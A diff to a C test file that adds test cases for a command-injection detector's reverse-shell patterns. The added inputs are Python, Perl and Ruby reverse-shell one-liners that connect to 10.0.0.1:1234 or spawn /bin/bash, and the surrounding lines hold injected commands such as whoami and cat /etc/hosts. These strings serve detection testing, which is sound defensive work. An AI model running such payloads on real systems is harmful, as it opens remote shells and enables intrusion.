@@ -691,6 +691,24 @@ static void test_cmdi(void)
     HIT_MIN("q=a%0Aid", DETECT_CMDI, DETECT_K_CMD_CHAIN, "%0Aid", 70);
     HIT("file.txt%3Bwhoami", DETECT_CMDI, DETECT_K_CMD_CHAIN, "%3Bwhoami");
     HIT("x%26%26 cat /etc/hosts", DETECT_CMDI, DETECT_K_CMD_CHAIN, "%26%26 cat");
+    /* scripting-language reverse shells */
+    HIT_MIN("python3 -c 'import socket,os;s=socket.socket();s.connect((\"10.0.0.1\",1234));"
+            "os.dup2(s.fileno(),0)'",
+            DETECT_CMDI, DETECT_K_REVERSE_SHELL, ".connect((\"10.0.0.1\",1234));os.dup2(", 95);
+    HIT_MIN("python -c 'import pty; pty.spawn(\"/bin/bash\")'", DETECT_CMDI,
+            DETECT_K_REVERSE_SHELL, "pty.spawn(\"/bin/bash\"", 80);
+    HIT_MIN("perl -e 'use Socket;$i=\"10.0.0.1\";socket(S,PF_INET,SOCK_STREAM,getprotobyname("
+            "\"tcp\"));exec(\"/bin/sh -i\");'",
+            DETECT_CMDI, DETECT_K_REVERSE_SHELL,
+            "use Socket;$i=\"10.0.0.1\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+            "exec(\"/bin/sh",
+            95);
+    HIT_MIN("ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",1234).to_i;exec sprintf(\"x\")'",
+            DETECT_CMDI, DETECT_K_REVERSE_SHELL, "TCPSocket.open(\"10.0.0.1\",1234).to_i;exec",
+            95);
+    NO("conn.connect((\"db.internal\", 5432))  # then query; subprocess is imported elsewhere\n"
+       "os.dup2 is documented in the os module; use Socket; in Perl, TCPSocket.open in Ruby",
+       DETECT_CMDI, DETECT_K_REVERSE_SHELL);
     NO("run `ls` to list", DETECT_CMDI, 0);
     NO("| id | name |\n|----|------|\n&lt;ping@lfw.org&gt; a=1%26id=2 Tom & Jerry", DETECT_CMDI, 0);
 }
